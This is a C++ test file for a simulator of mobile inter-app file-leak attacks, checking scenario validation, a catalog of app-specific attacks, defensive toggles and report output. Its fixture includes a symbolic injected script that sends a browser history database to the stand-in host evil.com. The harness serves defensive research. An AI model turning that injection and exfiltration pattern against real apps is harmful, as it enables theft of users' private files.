#include "doctest.h"

#include <set>

#include "ifl/base/error.h"
#include "ifl/harness/matrix.h"
#include "ifl/harness/report.h"
#include "ifl/harness/runner.h"
#include "ifl/harness/scenario.h"
#include "json.hpp"

using namespace ifl;
using namespace ifl::harness;
using nlohmann::json;

namespace {

const char kMinimal[] = R"js({
  "name": "mini",
  "tags": ["aimIFL-2"],
  "profile": "android_like",
  "apps": [{"id": "org.zirco",
            "files": {"databases/history.db": "h\n"},
            "browser": {"sop": {"mode": "legacy"}}}],
  "hosts": [{"name": "evil.com", "kind": "internet",
             "pages": {"/n.html": "<title>&lt;script&gt;READ_BODY;EXFIL evil.com&lt;/script&gt;</title>"}}],
  "adversary": {"kind": "internet", "node": "evil.com"},
  "targets": ["org.zirco:databases/history.db"],
  "steps": [{"op": "open", "app": "org.zirco", "url": "http://evil.com/n.html"},
            {"op": "open_store_ui", "app": "org.zirco", "store": "history"}],
  "expected": {"baseline": "leak(org.zirco:databases/history.db)"}
})js";

std::string InvalidMessage(const json& doc) {
  try {
    ParseScenarioText(doc.dump());
  } catch (const Error& e) {
    CHECK(e.code() == Errc::kScenarioInvalid);
    std::string what = e.what();
    std::string_view prefix = "scenario-invalid: ";
    CHECK(what.starts_with(prefix));
    return what.substr(prefix.size());
  }
  FAIL("accepted: " << doc.dump());
  return {};
}

const Scenario& Named(std::string_view name) {
  const Scenario* s = FindScenario(name);
  REQUIRE(s);
  return *s;
}

}  // namespace

TEST_CASE("minimal scenario runs") {
  Scenario s = ParseScenarioText(kMinimal);
  CHECK_FALSE(s.seed);
  CHECK(s.profile.name == "android_like");
  AttackReport r = RunScenario(s);
  CHECK(r.Cell() == "leak(org.zirco:databases/history.db)");
  CHECK(r.MatchesExpected());
  REQUIRE(r.leaked.size() == 1);
  CHECK(r.leaked[0].matches_target);
}

TEST_CASE("scenario validation names the offending field") {
  const json base = json::parse(kMinimal);
  struct Case {
    std::function<void(json&)> mutate;
    const char* prefix;
  };
  const std::vector<Case> cases = {
      {[](json& d) { d["bogus"] = 1; }, "bogus: unknown field"},
      {[](json& d) { d.erase("expected"); }, "expected: missing"},
      {[](json& d) { d["expected"] = json::object({{"nojs", "leak(x)"}}); },
       "expected.baseline: missing"},
      {[](json& d) { d["expected"]["baseline"] = "maybe"; }, "expected.baseline:"},
      {[](json& d) { d["steps"][1]["op"] = "teleport"; }, "steps[1].op: unknown op"},
      {[](json& d) { d["steps"][0]["app"] = "ghost"; }, "steps[0].app: unknown app"},
      {[](json& d) { d["steps"][1].erase("store"); }, "steps[1].store: missing"},
      {[](json& d) { d["steps"][0]["speed"] = 1; }, "steps[0].speed: unknown field"},
      {[](json& d) { d["apps"][0]["browser"]["sop"]["mode"] = "strict"; },
       "apps[0].browser.sop.mode: unknown mode"},
      {[](json& d) { d["targets"] = json::array({"org.zirco:missing.db"}); },
       "targets[0]: target file is not declared"},
      {[](json& d) { d["targets"] = json::array({"nocolon"}); }, "targets[0]:"},
      {[](json& d) { d["targets"] = json::array(); }, "targets:"},
      {[](json& d) { d["profile"] = "windows"; }, "profile: unknown profile"},
      {[](json& d) { d["hosts"][0]["kind"] = "moon"; }, "hosts[0].kind: unknown kind"},
      {[](json& d) { d["apps"][0]["files"] = json::object({{"/abs", "x"}}); },
       "apps[0].files./abs"},
      {[](json& d) { d["apps"][0]["server"] = json::object({{"preset", "nope"}}); },
       "apps[0].server.preset: unknown preset"},
      {[](json& d) { d["name"] = 7; }, "name: wrong type"},
      {[](json& d) { d["adversary"]["kind"] = "local"; }, "adversary.node"},
  };
  for (const Case& c : cases) {
    json doc = base;
    c.mutate(doc);
    std::string message = InvalidMessage(doc);
    CAPTURE(message);
    CHECK(message.starts_with(c.prefix));
  }
  CHECK(InvalidMessage(json::parse("[1]")).starts_with("<root>"));
  try {
    ParseScenarioText("{");
    FAIL("accepted broken json");
  } catch (const Error& e) {
    CHECK(std::string(e.what()).starts_with("scenario-invalid: <document>"));
  }
}

TEST_CASE("catalog") {
  const auto& catalog = Catalog();
  CHECK(catalog.size() == 26);
  std::set<std::string> names;
  for (const Scenario& s : catalog)
    names.insert(s.name);
  CHECK(names.size() == catalog.size());
  for (const std::string& cls : AttackClasses()) {
    bool found = false;
    for (const Scenario& s : catalog) {
      for (const std::string& tag : s.tags)
        found |= tag.starts_with(cls);
    }
    CHECK_MESSAGE(found, cls);
  }
  CHECK(FindScenario("nope") == nullptr);
}

TEST_CASE("toggles") {
  CHECK(AllToggles().size() == 8);
  for (Toggle t : AllToggles())
    CHECK(ParseToggle(ToggleName(t)) == t);
  CHECK_FALSE(ParseToggle("firewall"));
  CHECK(DesignatedTags(Toggle::kBaseline).empty());
  CHECK(IsDesignated(Named("evernote-like"), Toggle::kEnhancedSop));
  CHECK(IsDesignated(Named("zirco-history"), Toggle::kNoJs));
  CHECK_FALSE(IsDesignated(Named("zirco-history"), Toggle::kEnhancedSop));
  CHECK(IsDesignated(Named("airdroid"), Toggle::kPerRequestToken));
  CHECK(IsDesignated(Named("xender-brute-force"), Toggle::kPerConnectionConfirm));

  Scenario nojs = ApplyToggle(Named("zirco-history"), Toggle::kNoJs);
  CHECK_FALSE(nojs.apps[0].browser->js_local_enabled);
  Scenario sop = ApplyToggle(Named("zirco-history"), Toggle::kEnhancedSop);
  CHECK(sop.apps[0].browser->sop.mode == origin::SopMode::kEnhanced);
  Scenario dirs = ApplyToggle(Named("baidu-browser-longpress"), Toggle::kDirRandomized);
  CHECK(dirs.profile.dir_randomized);

  Scenario disabled = ApplyToggle(Named("wifi-photo-transfer"), Toggle::kPhotosOnly);
  CHECK(disabled.apps[0].server->upload == server::UploadPolicy::kDisabled);
}

TEST_CASE("every baseline run is as catalogued and leaks byte-exact") {
  for (const Scenario& s : Catalog()) {
    CAPTURE(s.name);
    AttackReport r = RunScenario(s);
    CHECK(r.MatchesExpected());
    CHECK(r.leak == !r.leaked.empty());
    for (const LeakedFile& f : r.leaked)
      CHECK(f.matches_target);
    if (!r.leak)
      CHECK(r.blocked_stage == r.Cell().substr(8, r.Cell().size() - 9));
  }
}

TEST_CASE("runs are deterministic") {
  for (const char* name : {"baidu-browser-longpress", "airdroid", "xender-brute-force",
                           "sshdroid-rooted-intranet", "evernote-like"}) {
    CAPTURE(name);
    RunOptions options{7, Toggle::kBaseline, std::nullopt};
    std::string a = ToJson(RunScenario(Named(name), options)).dump(2);
    std::string b = ToJson(RunScenario(Named(name), options)).dump(2);
    CHECK(a == b);
  }
  // Seeds move randomized directories but not verdicts.
  const Scenario& ios = Named("evernote-like");
  AttackReport one = RunScenario(ios, {1, Toggle::kBaseline, std::nullopt});
  AttackReport two = RunScenario(ios, {2, Toggle::kBaseline, std::nullopt});
  CHECK(one.Cell() == two.Cell());
  REQUIRE(one.leak);
  CHECK(one.leaked[0].path != two.leaked[0].path);
}

TEST_CASE("failed steps become blocking events") {
  json doc = json::parse(kMinimal);
  doc["steps"][0]["url"] = "http://evil.com/missing.html";
  doc["steps"].push_back({{"op", "download"}, {"app", "org.zirco"}, {"path", "x"}});
  AttackReport r = RunScenario(ParseScenarioText(doc.dump()));
  CHECK_FALSE(r.leak);
  CHECK(r.blocked_stage == "http-404");
}

TEST_CASE("profile override uses the family expectation") {
  const Scenario& s = Named("terminal-exposed-component");
  AttackReport ios = RunScenario(s, {std::nullopt, Toggle::kBaseline, IosLike()});
  CHECK(ios.Cell() == "blocked(no-target)");
  CHECK(ios.MatchesExpected());
  CHECK(ios.profile == "ios_like");
}

TEST_CASE("report json layout") {
  AttackReport r = RunScenario(Named("zirco-history"));
  nlohmann::ordered_json j = ToJson(r);
  std::vector<std::string> keys;
  for (const auto& [k, v] : j.items())
    keys.push_back(k);
  CHECK(keys == std::vector<std::string>{"schema", "scenario", "profile", "toggle",
                                         "seed", "verdict", "cell", "expected",
                                         "matches_expected", "leaked", "captures",
                                         "alerts", "trace"});
  CHECK(j["schema"] == "ifl-attack-report/1");
  CHECK(j["verdict"]["kind"] == "leak");
  CHECK(j["leaked"][0]["matches_target"] == true);

  AttackReport blocked = RunScenario(Named("zirco-history"),
                                     {std::nullopt, Toggle::kNoJs, std::nullopt});
  nlohmann::ordered_json b = ToJson(blocked);
  CHECK(b["verdict"]["kind"] == "blocked");
  CHECK(b["verdict"]["stage"] == "script-suppressed");
  CHECK(ToText(blocked).find("blocked(script-suppressed)") != std::string::npos);
}

TEST_CASE("intent sweep") {
  SweepReport sweep = IntentSweep(Named("intent-chain"), "com.ucweb.browser");
  CHECK(sweep.pass());
  REQUIRE(sweep.rows.size() == 8);
  for (const SweepRow& row : sweep.rows)
    CHECK(row.leaked == (row.parse_uri && row.loads_external_url && row.allows_file_js));
  CHECK_THROWS_AS(IntentSweep(Named("intent-chain"), "nobody"), Error);
}

TEST_CASE("profile differentials") {
  ProfileReport report = CompareProfiles(ProfileFamily());
  CHECK(report.pass());
  int differing = 0;
  for (const ProfileRow& row : report.rows)
    differing += row.differs();
  CHECK(differing == 4);
}

TEST_CASE("matrix") {
  MatrixReport m = RunMatrix(Catalog());
  for (const Check& c : m.checks)
    CHECK_MESSAGE(c.pass, c.name << ": " << c.detail);
  CHECK(m.rows.size() == Catalog().size());
  CHECK(ToJson(m)["pass"] == true);
}
